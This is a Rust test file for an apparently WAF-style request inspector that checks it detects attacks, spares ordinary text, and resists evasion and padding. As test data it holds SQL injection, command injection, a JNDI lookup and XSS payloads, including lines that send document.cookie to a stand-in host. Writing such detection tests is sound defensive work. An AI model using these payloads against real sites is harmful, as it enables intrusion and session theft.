//! Cases as data: what is an attack and of which class, and what ordinary people write.

use portcullis_inspect::{Place, inspect};

fn lines(text: &str) -> impl Iterator<Item = String> + '_ {
    text.lines()
        .filter(|line| !line.is_empty() && !line.starts_with("# class"))
        .map(|line| line.replace("\\r", "\r").replace("\\n", "\n"))
}

#[test]
fn attacks_are_known() {
    let mut missed = Vec::new();
    for line in lines(include_str!("cases/attacks.txt")) {
        let (class, value) = line.split_once(' ').unwrap();
        let verdict = inspect(value.as_bytes(), Place::Query).filter(|verdict| verdict.is_attack());
        if verdict.as_ref().is_none_or(|verdict| verdict.class.name() != class) {
            missed.push(format!("{line:?}: {verdict:?}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn ordinary_people_are_left_alone() {
    let mut alarms = Vec::new();
    for line in include_str!("cases/ordinary.txt").lines() {
        for place in [Place::Query, Place::Form, Place::Body] {
            if let Some(verdict) =
                inspect(line.replace("\\n", "\n").as_bytes(), place).filter(|verdict| verdict.is_attack())
            {
                alarms.push(format!("{place:?} {line:?}: {verdict}"));
            }
        }
    }
    assert!(alarms.is_empty(), "{}", alarms.join("\n"));
}

/// A value of `evasions.txt`: `\xNN` is a byte, `\\` a backslash.
fn bytes(text: &str) -> Option<Vec<u8>> {
    let (mut out, mut rest) = (Vec::new(), text);
    while let Some((plain, escape)) = rest.split_once('\\') {
        out.extend_from_slice(plain.as_bytes());
        if let Some(hex) = escape.strip_prefix('x') {
            let (digits, behind) = hex.split_at_checked(2)?;
            out.push(u8::from_str_radix(digits, 16).ok()?);
            rest = behind;
        } else {
            out.push(b'\\');
            rest = escape.strip_prefix('\\')?;
        }
    }
    out.extend_from_slice(rest.as_bytes());
    Some(out)
}

#[test]
fn evasions_hide_nothing() {
    let mut missed = Vec::new();
    for line in include_str!("cases/evasions.txt").lines().filter(|line| !line.starts_with('#')) {
        let [how, _class, value] = line.splitn(3, " | ").collect::<Vec<_>>()[..] else { panic!("{line}") };
        let value = bytes(value).unwrap();
        for place in [Place::Query, Place::Body] {
            if !inspect(&value, place).is_some_and(|verdict| verdict.is_attack()) {
                missed.push(format!("{how}, {place:?}: {line}"));
            }
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn padding_hides_nothing() {
    for (class, value) in [
        ("sql", "1' or '1'='1"),
        ("xss", "<script>alert(1)</script>"),
        ("command", "; cat /etc/hosts"),
        ("jndi", "${jndi:ldap://x.example/a}"),
    ] {
        for value in [format!("{} {value}", "x".repeat(100_000)), format!("{value} {}", "x".repeat(100_000))]
        {
            let verdict = inspect(value.as_bytes(), Place::Body).filter(|verdict| verdict.is_attack());
            assert_eq!(verdict.map(|verdict| verdict.class.name()), Some(class));
        }
    }
}

#[test]
fn prose_around_it_hides_nothing_that_steals() {
    let prose = "The parcel came on time, and the shoes fit well. My daughter wears them every day, which says a lot! \
                 We had ordered two pairs before: one was too small, the other was sent back without any trouble. "
        .repeat(3);
    for attack in [
        "<script>new Image().src='//x.example/?'+document.cookie</script>",
        "<img src=x onerror=fetch('//x.example/'+document.cookie)>",
        "<script>eval(atob('YWxlcnQoMSk='))</script>",
        "${jndi:ldap://x.example/a}",
        "<svg onload=alert(1)>",
    ] {
        let value = format!("{prose}{attack}{prose}");
        assert!(
            inspect(value.as_bytes(), Place::Body).is_some_and(|verdict| verdict.is_attack()),
            "{attack}"
        );
    }
    assert_eq!(inspect(prose.as_bytes(), Place::Body), None);
}

#[test]
fn work_is_bounded() {
    // No input may cost more than so many looks a byte, whatever it repeats.
    for piece in [
        "'",
        "(",
        "or ",
        "' or ",
        "<",
        "<a x='",
        "${",
        "$ne:",
        "%25",
        "&#",
        "\\u",
        "../",
        "`a`;",
        "case when ",
        "select (",
        "((((",
        "1)--\n",
        "\"[",
        "{{",
        "alert(",
        "window['",
        "://",
        "O:1:",
        "AAAA",
        "+ADw-",
        "{%\n<style>",
        "data:{{%41&#x41;",
        "${lower:&lt;",
        "<a constructor|ls ",
        "select case when $ne:",
        "%25select select $ne:",
        "\u{1},|ls ",
        "&constructor\0%u0041../\\x41`a`",
        "%2525a../&window['\"@type\":${lower:\\x41{cat,$(file:",
        "_|",
        "&\0`a`/",
        "+$([\"",
        "x`^",
        "or (",
        "' or 'x ",
        "<script ",
        "|a=1;$a",
    ] {
        for place in [Place::Query, Place::Body, Place::Path] {
            let value = piece.repeat(20_000 / piece.len());
            let steps = portcullis_inspect::steps(value.as_bytes(), place);
            assert!(
                steps < 160 * value.len() as u64,
                "{piece:?}: {} steps a byte",
                steps / value.len() as u64
            );
        }
    }
}
